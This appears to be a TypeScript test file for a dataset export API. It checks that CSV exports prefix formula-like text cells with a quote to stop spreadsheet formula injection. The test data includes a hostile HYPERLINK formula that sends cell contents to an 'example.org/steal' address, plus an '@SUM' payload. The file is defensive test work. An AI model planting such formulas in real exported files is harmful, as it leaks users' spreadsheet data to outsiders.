import { importDataset } from '../../src/dataset/index.js';
import { openTestApi, type TestApi } from '../support/api.js';
import { csv, removeDatasets, smallDataset, writeDataset } from '../dataset/support.js';
import { csvObjects, listen } from './support.js';

// A dataset whose text fields would run as formulas if a spreadsheet opened them unguarded.
const HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"Open")';
const hostile = {
  ...smallDataset,
  'needs.csv': csv(
    'la_code,cohort,need_category,pathway_stage,year,people,source',
    'E08000026,ADULTS,AUTISM,COMMUNITY_SUPPORT,2025,195,+44 20 7946 0000 (call to confirm)',
  ),
  'services.csv': csv(
    'service_code,name,ics_code,la_code,commissioner,provider,pathway_stage,cohorts,need_categories,capacity_people,start_date,end_date',
    `QWU-SVC-001,"${HYPERLINK.replaceAll('"', '""')}",QWU,E08000026,JOINT,@SUM(A1:A9),COMMUNITY_SUPPORT,ADULTS;OLDER_ADULTS,AUTISM;LEARNING_DISABILITY,300,2024-04-01,`,
  ),
};

let api: TestApi;
let base: string;
beforeAll(async () => {
  api = await openTestApi();
  await importDataset(api.app.database, writeDataset(hostile));
  base = await listen(api);
});
afterAll(async () => {
  removeDatasets();
  await api.close();
});

const download = async (path: string) => (await fetch(`${base}${path}`)).text();

test('text cells that begin like a formula are prefixed with a quote; numbers are left alone', async () => {
  const text = await download('/export/services.csv');
  const [service] = csvObjects(text);
  expect(service.name).toBe(`'${HYPERLINK}`);
  expect(service.provider).toBe(`'@SUM(A1:A9)`);
  expect(service.capacity_people).toBe('300');
  expect(text).toContain(`,'@SUM(A1:A9),COMMUNITY_SUPPORT,ADULTS;OLDER_ADULTS,LEARNING_DISABILITY;AUTISM,300,2024-04-01,,,,,\r\n`);
  const [need] = csvObjects(await download('/export/needs.csv'));
  expect(need.source).toBe(`'+44 20 7946 0000 (call to confirm)`);
  expect(need.people).toBe('195');
});

test('a surplus in the gap findings stays a negative number, unquoted', async () => {
  const filter = 'icsCode=QWU&domain=SERVICES&year=2025&cohort=ADULTS&needCategory=AUTISM&pathwayStage=COMMUNITY_SUPPORT';
  const text = await download(`/export/gap-findings.csv?${filter}`);
  const [finding] = csvObjects(text);
  expect(finding).toMatchObject({ need: '195', provision: '300', gap: '-105', severity: 'NONE' });
  expect(text).toContain(',195,300,-105,');
});
